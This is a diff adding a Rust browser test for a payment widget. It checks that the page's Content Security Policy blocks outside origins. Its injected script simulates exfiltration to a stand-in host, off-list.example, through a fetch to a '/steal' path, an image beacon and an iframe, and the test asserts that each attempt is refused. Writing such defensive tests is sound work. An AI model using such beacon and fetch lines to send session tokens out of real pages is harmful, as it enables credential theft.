@@ -99,3 +99,46 @@ async fn browser_mode_returns_to_the_app_link_when_the_payment_finishes() {
     c.close().await.expect("closes");
     backend.shutdown().await;
 }
+
+/// The widget page's CSP names its origins: a script on the page (a foothold, a compromised
+/// dependency) cannot send the session's `init_token` or `signature` anywhere else, by fetch, by
+/// image beacon or by frame. Chromium reports each refusal as a `securitypolicyviolation`.
+#[tokio::test]
+async fn the_widget_page_refuses_origins_off_its_list() {
+    if skip() {
+        return;
+    }
+    let dir = Scratch::new("browser-csp");
+    let backend = Backend::start(test_config(dir.db_url())).await.expect("starts");
+    let api = Api::new(&backend);
+    let token = api.login("first_time").await;
+    let created = api.buy(&token).await;
+    let (_driver, driver_url) = chromedriver().await;
+    let profile = profile_dir("host-csp");
+    let c = chromium(&driver_url, true, &profile).await;
+    c.goto(&created.widget_url).await.expect("page loads");
+    wait_css(&c, "[data-testid=proof-widget]").await;
+    let script = r#"
+        const done = arguments[arguments.length - 1];
+        const seen = [];
+        document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective + ' ' + e.blockedURI));
+        fetch('https://off-list.example/steal?t=1', { mode: 'no-cors' }).catch(() => {});
+        new Image().src = 'https://off-list.example/pixel.gif';
+        const frame = document.createElement('iframe');
+        frame.src = 'https://off-list.example/frame';
+        document.body.appendChild(frame);
+        fetch(location.origin + '/healthz').then(r => r.text()).then(own => setTimeout(() => done({ seen, own }), 1000));
+    "#;
+    let out = c.execute_async(script, vec![]).await.expect("script runs");
+    let seen: Vec<String> = serde_json::from_value(out["seen"].clone()).expect("list");
+    for directive in ["connect-src", "img-src", "frame-src"] {
+        assert!(
+            seen.iter().any(|v| v.starts_with(directive) && v.contains("off-list.example")),
+            "{directive} must refuse off-list.example: {seen:?}"
+        );
+    }
+    assert_eq!(out["own"], "ok", "the page's own origin stays reachable");
+    assert!(seen.iter().all(|v| v.contains("off-list.example")), "nothing else was refused: {seen:?}");
+    c.close().await.expect("closes");
+    backend.shutdown().await;
+}
